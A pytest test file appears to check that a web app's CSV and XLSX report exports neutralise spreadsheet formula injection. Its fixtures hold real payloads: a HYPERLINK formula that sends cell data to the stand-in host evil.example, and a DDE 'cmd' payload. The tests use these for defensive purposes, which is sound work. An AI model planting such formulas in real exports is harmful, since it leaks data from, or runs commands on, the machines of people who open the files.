"""No CSV the project writes lets a spreadsheet run what a person typed."""

import csv
import io

import openpyxl
import pytest

from accounts import roles
from reports.spreadsheets import neutralise_cell
from tests.factories import UserFactory

from .test_views import BASE, REPORTS

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (FORMULA, "'" + FORMULA),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12", "-12"),
        ("-12.5%", "-12.5%"),
        ("+3,5", "+3,5"),
        (-4, -4),
        ("Ada Keyes", "Ada Keyes"),
        ("", ""),
        (None, None),
    ],
)
def test_a_cell_is_neutralised_only_when_it_could_be_a_formula(value, expected):
    assert neutralise_cell(value) == expected


def cells(response) -> list[str]:
    text = b"".join(response.streaming_content).decode()
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula(values):
    for value in values:
        if isinstance(value, str) and value.startswith(TRIGGERS):
            assert neutralise_cell(value) == value, f"formula cell: {value!r}"


@pytest.fixture
def hostile_world(world):
    """Every name a learner or an author can type carries a formula."""
    for person in world["north_people"] + world["south_people"] + [world["staff"]]:
        person.first_name, person.last_name = FORMULA, "+cmd|' /C calc'!A0"
        person.save()
    for page in (world["course"], world["exam"], world["level"]):
        page.title = "@SUM(1+1)*cmd"
        page.save()
    world["north"].name = "-2+3 North"
    world["north"].save()
    return world


def test_every_report_csv_and_xlsx_holds_no_formula(client, hostile_world):
    client.force_login(UserFactory(roles=[roles.TRAINING_ADMINS]))
    urls = [f"{BASE}{report}/?export=csv" for report in REPORTS]
    urls += [
        f"{BASE}expiring/?within=365&export=csv",
        f"{BASE}item-analysis/?export=csv",
    ]
    seen_hostile = 0
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        values = cells(response)
        assert_no_formula(values)
        seen_hostile += sum(value.startswith("'") for value in values)
        xlsx = client.get(url.replace("export=csv", "export=xlsx"))
        book = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx.streaming_content)))
        for row in book.active.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (url, cell.value)
    # The hostile names did reach the exports, neutralised.
    assert seen_hostile > 0


def test_the_organisation_export_holds_no_formula(client, hostile_world):
    admin = UserFactory(
        organization=hostile_world["north"],
        is_organization_admin=True,
        first_name="=1+1",
    )
    client.force_login(admin)
    values = cells(client.get("/organization/?export=csv"))
    assert_no_formula(values)
    assert "'=1+1 " + admin.last_name in values or any(
        v.startswith("'=") for v in values
    )
